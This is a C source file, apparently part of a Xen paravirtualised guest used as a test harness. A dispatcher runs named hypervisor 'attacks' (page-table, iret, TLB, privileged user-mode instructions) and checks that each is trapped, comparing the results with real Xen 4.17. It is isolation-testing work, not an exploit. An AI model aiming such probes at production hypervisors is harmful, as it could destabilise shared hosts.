        "    mov $17, %eax\n xor %edi, %edi\n syscall\n"
        "    ud2\n"
        /* syscall callback: back to the kernel context of enter_user */
        "user_sc_cb:\n"
        "    mov kctx(%rip), %rsp\n"
        "    pop %r15\n pop %r14\n pop %r13\n pop %r12\n pop %rbp\n pop %rbx\n"
        "    xor %eax, %eax\n"
        "    ret\n"
        "enter_user:\n"
        "    push %rbx\n push %rbp\n push %r12\n push %r13\n push %r14\n push %r15\n"
        "    mov %rsp, kctx(%rip)\n"
        "    pushq $0xe02b\n push %rsi\n pushq $0x202\n pushq $0xe033\n push %rdi\n"
        "    pushq $0\n"
        "    jmp hypercall_page + 23 * 32\n"
        ".data\n"
        "kctx: .quad 0\n"
        ".text\n");

static uint8_t kstack[8192] __attribute__((aligned(16)));
static uint8_t ustack[8192] __attribute__((aligned(16)));

static int user_gp_at(const char *at)
{
    for (int i = 0; i < user_traps && i < MAX_USER_TRAPS; i++)
        if (user_rip[i] == (uint64_t)at)
            return (int)user_vec[i];
    return -1;
}

static void attack_user(start_info_t *si)
{
    struct callback_register sc = { .type = CALLBACKTYPE_syscall,
                                    .address = (unsigned long)user_sc_cb };
    check_eq("register syscall callback", HYPERVISOR_callback_op(CALLBACKOP_register, &sc), 0);
    check_eq("stack_switch",
             HYPERVISOR_stack_switch(FLAT_KERNEL_SS, (unsigned long)(kstack + sizeof(kstack))), 0);
    struct trap_info t[2] = {
        { .vector = 3, .flags = 0, .cs = FLAT_KERNEL_CS, .address = (unsigned long)guest_trap_3 },
        { 0 },
    };
    check_eq("trap table: vector 3 with DPL 0", HYPERVISOR_set_trap_table(t), 0);
    long rc = mmuext1(MMUEXT_NEW_USER_BASEPTR, mfn_of((void *)si->pt_base));
    if (rc) {
        printk("SKIP user: MMUEXT_NEW_USER_BASEPTR -> %ld\n", rc);
        return;
    }
    user_traps = 0;
    printk("attack user: wrmsr GS_BASE/KERNEL_GS_BASE, clts, mov %%cr3, wbinvd, int3 from user mode\n");
    enter_user((uint64_t)user_priv, (uint64_t)(ustack + sizeof(ustack)));
    for (int i = 0; i < user_traps && i < MAX_USER_TRAPS; i++)
        printk("attack user: trap %lu at %lx error %lx\n", (unsigned long)user_vec[i],
               (unsigned long)user_rip[i], (unsigned long)user_err[i]);
    check_eq("user wrmsr GS_BASE -> #GP", user_gp_at(ua0), 13);
    check_eq("user wrmsr KERNEL_GS_BASE -> #GP", user_gp_at(ua1), 13);
    check_eq("user clts -> #GP", user_gp_at(ua2), 13);
    check_eq("user mov %cr3 -> #GP", user_gp_at(ua3), 13);
    check_eq("user wbinvd -> #GP", user_gp_at(ua4), 13);
    /* Real Xen 4.17 keeps int3 at DPL 3 in its own IDT and injects #BP as
     * a hardware exception whatever DPL the guest's trap table gives. */
    check_eq("user int3 with vector 3 DPL 0 -> #BP after the int3 (as Xen)", user_gp_at(ub5), 3);
    check_eq("user int3 with vector 3 DPL 0 -> no #GP at the int3 (as Xen)", user_gp_at(ua5), -1);
    check_eq("6 traps in all", user_traps, 6);
}

/* Stay alive (blocked) for ms of system time, so the dom0 heartbeat is
 * seen while this domain exists, around an attack that takes no time. */
void linger(uint64_t ms)
{
    if (!guest_shared_info) {
        for (int i = 0; i < 2000; i++)
            HYPERVISOR_sched_op(SCHEDOP_yield, NULL);
        return;
    }
    uint64_t until = pvclock_ns() + ms * 1000000ULL;
    while (pvclock_ns() < until) {
        struct sched_poll p = { .nr_ports = 0, .timeout = until };
        if (HYPERVISOR_sched_op(SCHEDOP_poll, &p) < 0)
            HYPERVISOR_sched_op(SCHEDOP_yield, NULL);
    }
}

static uint64_t num_arg(start_info_t *si, const char *key, uint64_t dflt)
{
    char num[16];
    if (!cmdline_get(si, key, num, sizeof(num)))
        return dflt;
    uint64_t n = 0;
    for (const char *p = num; *p >= '0' && *p <= '9'; p++)
        n = n * 10 + (uint64_t)(*p - '0');
    return n;
}

int guest_main(start_info_t *si)
{
    if (xl_pvh_refuse("attack"))
        return SHUTDOWN_poweroff;
    char name[96], num[16];
    if (!cmdline_get(si, "attack", name, sizeof(name))) {
        printk("attack: no attack=NAME on the command line\n");
        return SHUTDOWN_crash;
    }
    uint64_t budget = 3000;
    if (cmdline_get(si, "budget_ms", num, sizeof(num))) {
        budget = 0;
        for (const char *p = num; *p >= '0' && *p <= '9'; p++)
            budget = budget * 10 + (uint64_t)(*p - '0');
    }
    printk("attack: %s starting\n", name);
    check_eq("traps_init", traps_init(), 0);
    linger(100);
    if (!strcmp(name, "l4slots"))
        attack_l4slots(si);
    else if (!strcmp(name, "l4unpin"))
        attack_l4unpin(si);
    else if (!strcmp(name, "shinfo"))
        attack_shinfo(si);
    else if (!strcmp(name, "iret"))
        attack_iret();
    else if (!strcmp(name, "cpuid_edge"))
        attack_cpuid_edge();
    else if (!strcmp(name, "batch"))
        attack_batch(si);
    else if (!strcmp(name, "loops"))
        attack_loops(budget);
    else if (!strcmp(name, "reservation"))
        attack_reservation();
    else if (!strcmp(name, "user"))
        attack_user(si);
    else if (!strcmp(name, "movss_db"))
        attack_movss_db();
    else if (!strcmp(name, "pt_deval"))
        attack_pt_deval(si, (unsigned int)num_arg(si, "mb", 59), &check_passed, &check_failed);
    else if (!strcmp(name, "pt_tree"))
        attack_pt_tree(si, (unsigned int)num_arg(si, "mb", 59), (unsigned int)num_arg(si, "rounds", 3),
                       &check_passed, &check_failed);
    else if (attack_tlb(si, name, &check_passed, &check_failed))
        ;
    else {
        printk("attack: unknown attack %s\n", name);
        return SHUTDOWN_crash;
    }
    printk("attack: %s survived\n", name);
    linger(100);
    return check_summary("attack");
}
